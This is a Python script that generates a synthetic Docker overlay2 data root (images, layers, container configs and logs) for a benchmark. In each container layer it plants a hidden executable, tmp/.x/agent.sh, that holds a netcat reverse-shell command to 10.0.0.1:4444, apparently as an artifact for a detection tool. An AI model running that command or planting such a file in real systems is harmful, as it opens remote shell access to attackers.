#!/usr/bin/env python3
"""Generate a synthetic Docker data root (overlay2) for benches/dataroot.sh.

Layout as dockerd writes it: image/overlay2/{repositories.json, imagedb/content/sha256/<id>,
layerdb/sha256/<chain>/{diff,cache-id,size}, layerdb/mounts/<cid>/{mount-id,init-id,parent}},
overlay2/<cache-id>/{diff/,link,lower}, containers/<cid>/{config.v2.json,hostconfig.json,
<cid>-json.log}. IMAGES images of LAYERS layers each (200 layers by default), FILES files per
layer; CONTAINERS containers (50), each with an init layer and a read-write layer holding a few
files (and, when run as root, an overlay whiteout: a 0:0 character device).

usage: gen-dataroot.py OUT [IMAGES LAYERS FILES CONTAINERS]
"""
import hashlib
import json
import os
import random
import sys


def sha(b):
    return hashlib.sha256(b).hexdigest()


def write(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)


def main():
    out = sys.argv[1]
    images, layers, files, containers = (int(x) for x in (sys.argv[2:6] or ["20", "10", "200", "50"]))
    rnd = random.Random(12)
    root = os.path.join(out, "var/lib/docker")
    img_dir = os.path.join(root, "image/overlay2")
    repos = {}
    image_ids = []
    for i in range(images):
        diff_ids, chain, caches = [], None, []
        for l in range(layers):
            cache = sha(f"cache {i} {l}".encode())
            diff = "sha256:" + sha(f"diff {i} {l}".encode())
            chain = diff if chain is None else "sha256:" + sha(f"{chain} {diff}".encode())
            diff_ids.append(diff)
            caches.append(cache)
            ldb = os.path.join(img_dir, "layerdb/sha256", chain.split(":")[1])
            write(os.path.join(ldb, "diff"), diff)
            write(os.path.join(ldb, "cache-id"), cache)
            write(os.path.join(ldb, "size"), str(files * 4096))
            d = os.path.join(root, "overlay2", cache)
            for k in range(files):
                body = f"layer {i}/{l} file {k}\n".encode() * rnd.randint(1, 400)
                write(os.path.join(d, "diff", f"usr/share/app{i}/l{l}/f{k}.txt"), body)
            write(os.path.join(d, "link"), f"L{i:03d}{l:03d}".ljust(26, "A"))
        cfg = {
            "architecture": "amd64",
            "os": "linux",
            "created": "2026-11-01T00:00:00Z",
            "config": {"Cmd": ["sh"]},
            "history": [{"created": "2026-11-01T00:00:00Z", "created_by": f"RUN step {l}"} for l in range(layers)],
            "rootfs": {"type": "layers", "diff_ids": diff_ids},
        }
        b = json.dumps(cfg).encode()
        iid = sha(b)
        write(os.path.join(img_dir, "imagedb/content/sha256", iid), b)
        repos[f"bench/app{i}"] = {f"bench/app{i}:latest": "sha256:" + iid}
        image_ids.append(("sha256:" + iid, chain))
    write(os.path.join(img_dir, "repositories.json"), json.dumps({"Repositories": repos}))
    for c in range(containers):
        cid = sha(f"container {c}".encode())
        iid, top = image_ids[c % len(image_ids)]
        mount = sha(f"mount {c}".encode())
        m = os.path.join(img_dir, "layerdb/mounts", cid)
        write(os.path.join(m, "mount-id"), mount)
        write(os.path.join(m, "init-id"), mount + "-init")
        write(os.path.join(m, "parent"), top)
        for k, p in enumerate(["etc/hosts", "etc/hostname", "etc/resolv.conf", ".dockerenv"]):
            write(os.path.join(root, "overlay2", mount + "-init", "diff", p), b"")
        up = os.path.join(root, "overlay2", mount, "diff")
        for k in range(20):
            write(os.path.join(up, f"tmp/work{k}.log"), f"container {c} wrote {k}\n" * 10)
        write(os.path.join(up, "tmp/.x/agent.sh"), "#!/bin/sh\nnc 10.0.0.1 4444 -e /bin/sh\n", 0o755)
        if os.geteuid() == 0:
            os.makedirs(os.path.join(up, "root"), exist_ok=True)
            os.mknod(os.path.join(up, "root/.ash_history"), 0o020000 | 0o600, os.makedev(0, 0))
        cdir = os.path.join(root, "containers", cid)
        conf = {
            "ID": cid,
            "Name": f"/bench{c}",
            "Image": iid,
            "Created": "2026-11-02T00:00:00Z",
            "Path": "sh",
            "Args": [],
            "Config": {"Image": f"bench/app{c % len(image_ids)}", "Cmd": ["sh"], "Env": []},
            "State": {"Running": c % 5 == 0, "StartedAt": "2026-11-02T00:00:01Z"},
            "Driver": "overlay2",
            "MountPoints": {},
        }
        write(os.path.join(cdir, "config.v2.json"), json.dumps(conf))
        write(os.path.join(cdir, "hostconfig.json"), json.dumps({"Privileged": False, "NetworkMode": "bridge"}))
        log = "".join(
            json.dumps({"log": f"GET /item/{k} HTTP/1.1 200\n", "stream": "stdout", "time": f"2026-11-02T00:{k // 60:02d}:{k % 60:02d}Z"})
            + "\n"
            for k in range(500)
        )
        write(os.path.join(cdir, f"{cid}-json.log"), log)


if __name__ == "__main__":
    main()
